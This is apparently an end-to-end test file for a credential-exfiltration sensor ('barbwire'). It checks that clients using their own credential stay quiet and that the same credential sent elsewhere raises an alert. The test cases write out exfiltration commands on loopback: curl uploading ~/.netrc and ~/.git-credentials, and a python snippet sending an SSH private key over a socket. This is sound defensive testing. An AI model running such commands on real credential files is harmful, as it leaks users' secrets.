#!/usr/bin/env python3
"""End-to-end owner use (issue 13, "Owner use is quiet by default"): a client that
reads its own credential and sends it to the server the credential names gives no
alert, with the built-in rules and no baseline; in the same sensor run, the same
credential sent anywhere else (or by a program that is not the packaged client)
alerts.

  owner_test.py BARBWIRE SOURCE_ROOT CASE

Each case:
  - prepare: a temp HOME with the credential file (.netrc, kubeconfig,
    .git-credentials, .s3cfg, an ssh key), loopback servers that REQUIRE that
    credential (401 without it) and print "AUTH OK" when it arrives, and a
    second server on 127.0.0.2 that accepts anything and prints what it got;
  - `barbwire record TRACE -v` (the built-in rules unless the case says);
  - the owner's work in a session of its own (h.Shell), which must succeed;
  - the counterpart(s), each in a session of its own: the same credential to
    the other server, which must alert, naming the credential file;
  - after the sensor stops: proof that the owner's work was seen and done (the
    client's open of the credential in the trace, the binding event that names
    the server, the server's "AUTH OK", the sensor's suppressed_owner_use or
    trusted_opens count) and that no alert involves any process the owner's
    session or the servers started (benign_test.Family over the trace).
See docs/rules.md, "Owner use".
"""
import base64
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness as h  # noqa: E402
from harness import check  # noqa: E402
import benign_test as bt  # noqa: E402

BW = ""
ROOT = ""
SETTLE = 2.5
OTHER = "127.0.0.2"   # the "elsewhere" server: loopback, named by no credential file

# A loopback HTTP server that requires a credential. argv: MODE EXPECT STRICT ROOT BIND
#   MODE basic (EXPECT "user:password"), bearer (EXPECT the token), s3 (EXPECT the
#   access key, found in the Authorization header); STRICT 1: 401 without it, 0:
#   anything is accepted (the "elsewhere" server); ROOT a directory to serve files
#   from, or "-"; BIND the address; TLS (optional) the path of a self-signed
#   certificate without its .crt/.key suffix: serve https. Prints "LISTENING <port>", then "AUTH OK <path>"
#   or "AUTH NONE <path>" per request and "BODY <hex>" for what a PUT/POST sent.
SERVER_PY = r'''
import base64, functools, http.server, json, ssl, sys
mode, expect, strict, root, bind = sys.argv[1:6]
tls = sys.argv[6] if len(sys.argv) > 6 else ""
strict = strict == "1"
S3 = ('<?xml version="1.0" encoding="UTF-8"?><ListAllMyBucketsResult xmlns="http://s3.amazonaws.com/doc/2006-03-01/">'
      '<Owner><ID>o</ID><DisplayName>o</DisplayName></Owner><Buckets><Bucket><Name>owner-bucket</Name>'
      '<CreationDate>2024-01-01T00:00:00.000Z</CreationDate></Bucket></Buckets></ListAllMyBucketsResult>')
KUBE = {"/version": {"major": "1", "minor": "28", "gitVersion": "v1.28.0", "platform": "linux/amd64"},
        "/api": {"kind": "APIVersions", "versions": ["v1"], "serverAddressByClientCIDRs": []},
        "/apis": {"kind": "APIGroupList", "apiVersion": "v1", "groups": []}}
class H(http.server.SimpleHTTPRequestHandler):
    protocol_version = "HTTP/1.0"
    def authed(self):
        a = self.headers.get("Authorization") or ""
        if mode == "basic":
            ok = a == "Basic " + base64.b64encode(expect.encode()).decode()
        elif mode == "bearer":
            ok = a == "Bearer " + expect
        else:
            ok = expect in a
        print(("AUTH OK " if ok else "AUTH NONE ") + self.path + " " + a[:120], flush=True)
        return ok or not strict
    def reply(self, code, body, ctype="text/plain"):
        b = body.encode()
        self.send_response(code)
        if code == 401:
            self.send_header("WWW-Authenticate", 'Basic realm="owner"')
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(b)))
        self.end_headers()
        self.wfile.write(b)
    def do_GET(self):
        if not self.authed():
            return self.reply(401, "credential required\n")
        path = self.path.split("?")[0]
        if mode == "s3":
            return self.reply(200, S3, "application/xml")
        if mode == "bearer":
            if path in KUBE:
                return self.reply(200, json.dumps(KUBE[path]), "application/json")
            return self.reply(200, json.dumps({"kind": "PodList", "apiVersion": "v1", "metadata": {},
                                               "items": []}), "application/json")
        if root != "-":
            return super().do_GET()
        return self.reply(200, "ok\n")
    def do_PUT(self):
        n = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(n) if n else b""
        self.authed()
        print("BODY " + body.hex(), flush=True)
        return self.reply(200, "stored\n")
    do_POST = do_PUT
    def log_message(self, *a):
        pass
handler = functools.partial(H, directory=root) if root != "-" else H
srv = http.server.ThreadingHTTPServer((bind, 0), handler)
if tls:
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(tls + ".crt", tls + ".key")
    srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
print("LISTENING %d" % srv.server_address[1], flush=True)
srv.serve_forever()
'''


def need(name, package):
    return bt.need(name, package)


class Run:
    """One owner-use run: workspace, temp HOME, a recording sensor (-v for its stats),
    the owner's servers and session (in `ctx.roots`), the counterparts' sessions."""

    def __init__(self, rules_text=None):
        h.require_root_and_sensor()
        self.ws = h.Workspace()
        home = self.ws.path("home")
        os.makedirs(home, mode=0o755)
        self.home = os.path.realpath(home)
        os.makedirs(self.ws.path("out"))
        h.write_file(self.ws.path("server.py"), SERVER_PY)
        self.rules_text = rules_text
        self.sensor = None
        self.ctx = bt.Ctx(self.ws, self.home)
        self.counter = []       # (leader pid, what) of the counterparts

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        try:
            self.ctx.stop_servers()
        finally:
            h.teardown(self.sensor, self.ws)

    def start_sensor(self):
        cfg = h.write_file(self.ws.path("rules.yml"), self.rules_text) if self.rules_text else None
        self.ws.trace = self.ws.path("trace.jsonl")
        self.sensor = h.Sensor(BW, cfg, command="record", record_file=self.ws.trace, extra=["-v"])
        self.sensor.start().wait_ready()

    def server(self, mode, expect, strict=True, root="-", bind="127.0.0.1", owner=True, tls=False):
        """A credential-checking server; `owner` False: not part of the owner's processes
        (the counterpart's "elsewhere" server is not, so its own alerts never count);
        `tls`: https with a self-signed certificate made here by openssl."""
        argv = [h.PY, "-u", self.ws.path("server.py"), mode, expect, "1" if strict else "0", root, bind]
        if tls:
            cert = self.ws.path("tls")
            if not os.path.exists(cert + ".crt"):
                subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1",
                                "-subj", "/CN=127.0.0.1", "-keyout", cert + ".key", "-out", cert + ".crt"],
                               check=True, capture_output=True)
            argv.append(cert)
        srv = bt.Server(argv, ready_re=r"LISTENING (\d+)", what=f"{mode} server on {bind}", env=self.ctx.env())
        srv.port = int(srv.match.group(1))
        self.ctx.servers.append(srv)
        if owner:
            self.ctx.roots.append(srv.pid)
        return srv

    def owner(self, script, **env):
        """The owner's work: a session of its own that must exit 0."""
        return self.ctx.shell(script, env=self.ctx.env(**env))

    def counterpart(self, what, script, **env):
        """The same credential sent elsewhere (or by a program that is not the client): a
        session of its own, not one of the owner's; its exit status is not checked."""
        sh = h.Shell(script, env=self.ctx.env(**env))
        try:
            out, err = sh.proc.communicate(timeout=90)
        except subprocess.TimeoutExpired:
            sh.kill()
            raise h.Failure(f"counterpart {what!r} did not finish")
        print(f"counterpart {what} [{sh.leader}]: exit {sh.proc.returncode}; "
              f"stdout {out.decode(errors='replace').strip()[-300:]!r}; "
              f"stderr {err.decode(errors='replace').strip()[-600:]!r}")
        self.counter.append((sh.leader, what))
        return sh.leader

    def finish(self):
        """Stop everything; returns (trace events, the owner's Family, stats dict)."""
        time.sleep(SETTLE)
        self.ctx.stop_servers()
        self.sensor.stop_cleanly()
        drops, line = bt.kernel_drops(self.sensor)
        check(drops == 0, f"the sensor dropped {drops} events: the silence would prove nothing ({line})")
        stats = None
        for l in self.sensor.stderr_lines():
            m = re.match(r"barbwire: stats: (\{.*\})$", l)
            if m:
                stats = json.loads(m.group(1))
        check(stats is not None, f"no 'stats:' line from the sensor (-v); stderr:\n{self.sensor.stderr()[-3000:]}")
        print("sensor owner use: suppressed_owner_use=%s binding_events=%s trusted_opens=%s %s" % (
            stats.get("suppressed_owner_use"), stats.get("binding_events"), stats.get("trusted_opens"),
            stats.get("owner_use")))
        ev = h.read_trace(self.ws.trace)
        return ev, bt.Family(ev, self.ctx.roots), stats

    def expect_quiet(self, fam):
        ours = fam.alerts(self.sensor.alerts())
        for a in ours[:3]:
            print(f"OWNER ALERT JSON: {json.dumps(a, sort_keys=True)}")
        check(ours == [], f"{len(ours)} alert(s) for the owner's own use:\n" +
              "\n".join(bt.summary(a) for a in ours[:5]))

    def expect_alert(self, leader, path, port, what, note=None):
        """The counterpart in session `leader` alerted on the credential `path`, to `port`."""
        got = [a for a in self.sensor.alerts_in_session(leader)
               if (a.get("file") or {}).get("path") == path and (a.get("destination") or {}).get("port") == port]
        check(got, f"counterpart {what}: no alert on {path} to port {port}; its session's alerts: "
                   f"{[bt.summary(a) for a in self.sensor.alerts_in_session(leader)]}\n"
                   f"sensor stderr:\n{self.sensor.stderr()[-2000:]}")
        a = got[0]
        print(f"counterpart {what} alerted: {bt.summary(a)}")
        if note is not None:
            reasons = [x.get("reason", "") for x in a.get("score_breakdown") or []]
            check(any(note in r for r in reasons), f"counterpart {what}: no score line with {note!r}: {reasons}")
        return a


def opened(ev, fam, path, comm=None):
    """Opens of `path` by the owner's processes (exec'd as `comm`), from the trace."""
    names = {}
    for e in ev:
        if e.get("kind") == "exec":
            names[e["pid"]] = e.get("comm")
    got = [e for e in ev if e.get("kind") == "open" and e.get("path") == path and fam.had(e.get("pid"), e.get("ts", 0))
           and (comm is None or names.get(e["pid"]) == comm)]
    check(got, f"trace: no open of {path} by the owner's {comm or 'processes'}: the sensor did not see the read")
    print(f"trace: {len(got)} open(s) of {path} by the owner's {comm or 'processes'}")
    return got


def bound(ev, path, addr, port):
    """The binding event of `path` that names (addr, port) (port 0: any)."""
    got = [e for e in ev if e.get("kind") == "binding" and e.get("path") == path and any(
        d.get("addr") == addr and d.get("port") in (0, port) for d in e.get("destinations") or [])]
    check(got, f"trace: no binding of {path} to {addr}:{port}; bindings: "
               f"{[e for e in ev if e.get('kind') == 'binding']}")
    print(f"trace: {path} bound to {got[-1].get('destinations')} ({got[-1].get('format')})")
    return got


def served(srv, what):
    out = srv.output()
    check("AUTH OK" in out, f"{what}: the server never received the credential:\n{out[-2000:]}")
    print(f"{what}: the server received the credential ({out.count('AUTH OK')} request(s))")


def suppressed(stats, at_least=1):
    n = stats.get("suppressed_owner_use", 0)
    check(n >= at_least, f"the sensor counted {n} network events quieted as owner use, expected >= {at_least}")


def netrc_file(home, machine="127.0.0.1", login="owner", password="netrc-pass-13"):
    return h.write_file(os.path.join(home, ".netrc"), f"machine {machine} login {login} password {password}\n",
                        mode=0o600)


# --------------------------------------------------------------------------- cases

def case_curl_netrc():
    """curl --netrc to the machine its .netrc names: quiet (owner use). The same curl
    uploading that .netrc to 127.0.0.2, and a copy of curl (not the packaged file)
    using it for the named machine, alert."""
    curl = need("curl", "curl")
    with Run() as r:
        netrc = netrc_file(r.home)
        r.start_sensor()
        srv = r.server("basic", "owner:netrc-pass-13")
        other = r.server("basic", "-", strict=False, bind=OTHER, owner=False)
        r.owner('set -e; for i in 1 2 3; do curl -sS -f --netrc "http://127.0.0.1:$P/owner-$i"; done',
                P=srv.port)
        leader = r.counterpart("curl uploads .netrc to 127.0.0.2",
                               f'curl -sS -T "$HOME/.netrc" "http://{OTHER}:$P/up"', P=other.port)
        copy = r.ws.path("out", "curl")
        shutil.copy(curl, copy)
        os.chmod(copy, 0o755)
        leader2 = r.counterpart("a copy of curl uses .netrc", f'"{copy}" -sS --netrc "http://127.0.0.1:$P/copy"',
                                P=srv.port)
        ev, fam, stats = r.finish()
        opened(ev, fam, netrc, "curl")
        bound(ev, netrc, "127.0.0.1", srv.port)
        served(srv, "curl --netrc")
        r.expect_quiet(fam)
        suppressed(stats, 3)
        check("BODY " + "machine 127.0.0.1".encode().hex() in other.output(),
              f"the .netrc never reached {OTHER}:\n{other.output()[-1500:]}")
        r.expect_alert(leader, netrc, other.port, "curl -T .netrc to 127.0.0.2", note="owner use: netrc bound to")
        r.expect_alert(leader2, netrc, srv.port, "a copy of curl", note="the sender is not a verified client")


KUBECONFIG = """apiVersion: v1
kind: Config
clusters:
- name: owner
  cluster:
    server: https://127.0.0.1:{port}
    insecure-skip-tls-verify: true
contexts:
- name: owner
  context:
    cluster: owner
    user: owner
current-context: owner
users:
- name: owner
  user:
    token: {token}
"""


def case_kubectl():
    """A genuine kubectl from its vendor package (/usr/bin/kubectl ->
    /usr/lib/google-cloud-sdk/bin/kubectl, not a trusted path) talking to the API
    server its kubeconfig names: quiet. The same kubectl with --server 127.0.0.2
    (the same kubeconfig, its token sent there) alerts."""
    need("kubectl", "kubectl")
    need("openssl", "openssl")
    token = "owner-kube-token-13"
    with Run() as r:
        kdir = os.path.join(r.home, ".kube")
        os.makedirs(kdir, mode=0o700)
        r.start_sensor()
        srv = r.server("bearer", token, tls=True)      # kubectl sends a token only over TLS
        other = r.server("bearer", "-", strict=False, bind=OTHER, owner=False, tls=True)
        kc = h.write_file(os.path.join(kdir, "config"), KUBECONFIG.format(port=srv.port, token=token), mode=0o600)
        r.owner('set -e; kubectl version -o json; kubectl get --raw /api/v1/namespaces/default/pods; '
                'kubectl get --raw /api/v1/namespaces/default/pods')
        leader = r.counterpart("kubectl --server 127.0.0.2",
                               f'kubectl --server "https://{OTHER}:$P" get --raw /api/v1/namespaces/default/pods',
                               P=other.port)
        ev, fam, stats = r.finish()
        opened(ev, fam, kc)
        bound(ev, kc, "127.0.0.1", srv.port)
        served(srv, "kubectl")
        r.expect_quiet(fam)
        suppressed(stats)
        check("Bearer " + token in other.output(), f"the token never reached {OTHER}:\n{other.output()[-1500:]}")
        r.expect_alert(leader, kc, other.port, "kubectl --server 127.0.0.2", note="owner use: kubeconfig bound to")


def make_repo(r):
    """A bare repository with one commit, served over dumb HTTP from ws/srv."""
    src, bare = r.ws.path("src"), r.ws.path("srv", "repo.git")
    env = dict(os.environ, HOME=r.home, GIT_AUTHOR_NAME="o", GIT_AUTHOR_EMAIL="o@example.invalid",
               GIT_COMMITTER_NAME="o", GIT_COMMITTER_EMAIL="o@example.invalid")
    subprocess.run(["git", "init", "-q", src], check=True, env=env)
    h.write_file(os.path.join(src, "README"), "owner use\n")
    subprocess.run(["git", "-C", src, "add", "README"], check=True, env=env)
    subprocess.run(["git", "-C", src, "commit", "-q", "-m", "one"], check=True, env=env)
    subprocess.run(["git", "clone", "-q", "--bare", src, bare], check=True, env=env)
    subprocess.run(["git", "-C", bare, "update-server-info"], check=True, env=env)
    return bare


def untrusted_git_rules():
    """The built-in rules without git's path trust for its credential store, so that
    owner use alone decides (what a host with git elsewhere than /usr would see)."""
    rules = h.builtin_rules_json(ROOT)
    rules["trusted_binaries"] = [t for t in rules["trusted_binaries"]
                                 if "git credentials" not in t.get("categories", [])]
    return json.dumps(rules, indent=1)


def git_store(rules_text, want_owner_use, lagging=False):
    need("git", "git")
    need("curl", "curl")
    with Run(rules_text) as r:
        make_repo(r)
        r.start_sensor()
        srv = r.server("basic", "owner:git-pass-13", root=r.ws.path("srv"))
        other = r.server("basic", "-", strict=False, bind=OTHER, owner=False)
        creds = h.write_file(os.path.join(r.home, ".git-credentials"),
                             f"http://owner:git-pass-13@127.0.0.1:{srv.port}\n", mode=0o600)
        if lagging:
            # The sensor far behind its ring buffer: every event of the clone
            # waits until git is done, so the store git opened has been
            # rewritten (lock file, rename: a new inode) before the sensor
            # reads it.
            os.kill(r.sensor.proc.pid, signal.SIGSTOP)
        try:
            r.owner('set -e; cd "$WS/out"; git -c credential.helper=store clone -q "http://127.0.0.1:$P/repo.git" '
                    'clone; test -f clone/README; git -C clone -c credential.helper=store fetch -q',
                    P=srv.port, GIT_TERMINAL_PROMPT=0)
        finally:
            if lagging:
                os.kill(r.sensor.proc.pid, signal.SIGCONT)
        leader = r.counterpart("curl uploads .git-credentials to 127.0.0.2",
                               f'curl -sS -T "$HOME/.git-credentials" "http://{OTHER}:$P/up"', P=other.port)
        ev, fam, stats = r.finish()
        opened(ev, fam, creds)
        served(srv, "git clone")
        r.expect_quiet(fam)
        if want_owner_use:
            bound(ev, creds, "127.0.0.1", srv.port)
            suppressed(stats)
        else:
            check(stats.get("trusted_opens", 0) >= 1, f"git's reads of its store were not seen as trusted: {stats}")
        if lagging:
            owner_stats = stats.get("owner_use", {})
            check(owner_stats.get("successor_bindings", 0) >= 1,
                  f"no opened store was bound through the file that replaced it: {owner_stats}")
        check("BODY " + "http://owner".encode().hex() in other.output(),
              f".git-credentials never reached {OTHER}:\n{other.output()[-1500:]}")
        r.expect_alert(leader, creds, other.port, "curl -T .git-credentials to 127.0.0.2")


def case_git_credential_store():
    """git -c credential.helper=store clone/fetch over HTTP with basic auth, the
    built-in rules (git is trusted for its store): quiet; the store uploaded by curl
    to 127.0.0.2 alerts."""
    git_store(None, want_owner_use=False)


def case_git_credential_store_owner_use():
    """As git_credential_store, with git's path trust removed from the rules: the
    credential helper (git credential-store, a verified client) reads, its ancestor
    git-remote-http (verified) sends to the URL the store names: quiet by owner use
    alone; the store uploaded elsewhere still alerts."""
    git_store(untrusted_git_rules(), want_owner_use=True)


def case_git_credential_store_owner_use_lagging():
    """As git_credential_store_owner_use, with the sensor stopped (SIGSTOP) while
    git clones and fetches: git credential-store rewrites the store (a new inode)
    before the sensor reads the one git opened, which is then bound as the file
    that replaced it (its opener's own, at the same path): quiet; the store
    uploaded elsewhere still alerts."""
    git_store(untrusted_git_rules(), want_owner_use=True, lagging=True)


def case_git_ssh():
    """git clone over ssh with a key, to a private sshd on loopback: quiet (ssh is
    trusted for its keys). The key sent to the same sshd port by python (not ssh)
    alerts."""
    sshd = need("sshd", "openssh-server")
    need("git", "git")
    need("ssh", "openssh-client")
    with Run() as r:
        bare = make_repo(r)
        sshdir = os.path.join(r.home, ".ssh")
        os.makedirs(sshdir, mode=0o700)
        key = os.path.join(sshdir, "id_ed25519")
        hostkey = r.ws.path("ssh_host_ed25519_key")
        for path, comment in ((key, "owner-user"), (hostkey, "owner-host")):
            subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", comment, "-f", path],
                           check=True, capture_output=True)
        authorized = r.ws.path("authorized_keys")
        shutil.copy(key + ".pub", authorized)
        os.makedirs("/run/sshd", mode=0o755, exist_ok=True)
        r.start_sensor()
        srv = None
        for _ in range(3):
            port = bt.free_port()
            cfg = h.write_file(r.ws.path("sshd_config"), bt.SSHD_CONFIG.format(
                port=port, hostkey=hostkey, authorized_keys=authorized), mode=0o600)
            try:
                srv = r.ctx.server([sshd, "-D", "-e", "-f", cfg], r"Server listening on 127\.0\.0\.1 port (\d+)",
                                   "sshd", env=r.ctx.env())
                break
            except h.Failure as e:
                if "Address already in use" not in str(e):
                    raise
        check(srv is not None, "sshd could not bind a free port three times")
        ssh = (f'ssh -F /dev/null -i "$HOME/.ssh/id_ed25519" -p {port} -o BatchMode=yes -o IdentitiesOnly=yes '
               f'-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null')
        r.owner(f'set -e; cd "$WS/out"; GIT_SSH_COMMAND=\'{ssh}\' git clone -q "root@127.0.0.1:{bare}" sshclone; '
                'test -f sshclone/README')
        leader = r.counterpart("python sends the key to the sshd port", f'{h.PY} -c "import socket\n'
                               f'd = open(\'$HOME/.ssh/id_ed25519\', \'rb\').read()\n'
                               f's = socket.create_connection((\'127.0.0.1\', {port}))\n'
                               f's.sendall(d)\n'
                               f's.close()"')
        ev, fam, stats = r.finish()
        opened(ev, fam, key, "ssh")
        check("Accepted publickey" in srv.output(), f"sshd never accepted the key:\n{srv.output()[-2000:]}")
        check(stats.get("trusted_opens", 0) >= 1, f"ssh's read of its key was not seen as trusted: {stats}")
        r.expect_quiet(fam)
        r.expect_alert(leader, key, port, "python sends the key")


S3CFG = """[default]
access_key = AKIDOWNER13
secret_key = owner-secret-13
host_base = 127.0.0.1:{port}
host_bucket = 127.0.0.1:{port}
use_https = False
signature_v2 = False
bucket_location = us-east-1
"""


def case_s3cmd():
    """s3cmd (Debian's package: a python script, /usr/bin/s3cmd under python3) with
    its ~/.s3cfg listing buckets at the host_base it names: quiet. The same s3cmd
    with --host 127.0.0.2 (the same keys) alerts.

    python3 is an interpreter: the sender is verified only by its script's identity
    and package (exec of a script records the script, issue 13), never as a bare
    interpreter (`python3 -c` reading ~/.s3cfg is no verified client; docs/rules.md,
    "Owner use")."""
    need("s3cmd", "s3cmd")
    with Run() as r:
        r.start_sensor()
        srv = r.server("s3", "AKIDOWNER13")
        other = r.server("s3", "-", strict=False, bind=OTHER, owner=False)
        cfg = h.write_file(os.path.join(r.home, ".s3cfg"), S3CFG.format(port=srv.port), mode=0o600)
        r.owner('set -e; s3cmd ls; s3cmd ls | grep -q owner-bucket')
        leader = r.counterpart("s3cmd --host 127.0.0.2",
                               f's3cmd --host={OTHER}:$P --host-bucket={OTHER}:$P ls', P=other.port)
        ev, fam, stats = r.finish()
        opened(ev, fam, cfg)
        bound(ev, cfg, "127.0.0.1", srv.port)
        served(srv, "s3cmd ls")
        check("AKIDOWNER13" in other.output(), f"the access key never reached {OTHER}:\n{other.output()[-1500:]}")
        r.expect_alert(leader, cfg, other.port, "s3cmd --host 127.0.0.2", note="owner use: s3cfg bound to")
        # python3 runs the script: it is a verified client only through the script's
        # identity (exec of a script records it, issue 13), never as a bare interpreter.
        execs = [e for e in ev if e.get("kind") == "exec" and e.get("comm") == "s3cmd" and fam.had(e["pid"], e["ts"])]
        check(execs, "trace: no exec of s3cmd by the owner's session")
        check(any(e.get("script") for e in execs),
              "the sensor recorded no script identity for s3cmd (python3 /usr/bin/s3cmd): owner use of a script "
              "client needs it (exec_event.script)")
        r.expect_quiet(fam)
        suppressed(stats)


if __name__ == "__main__":
    sys.exit(h.run_cases(globals(), __doc__, "owner_test"))
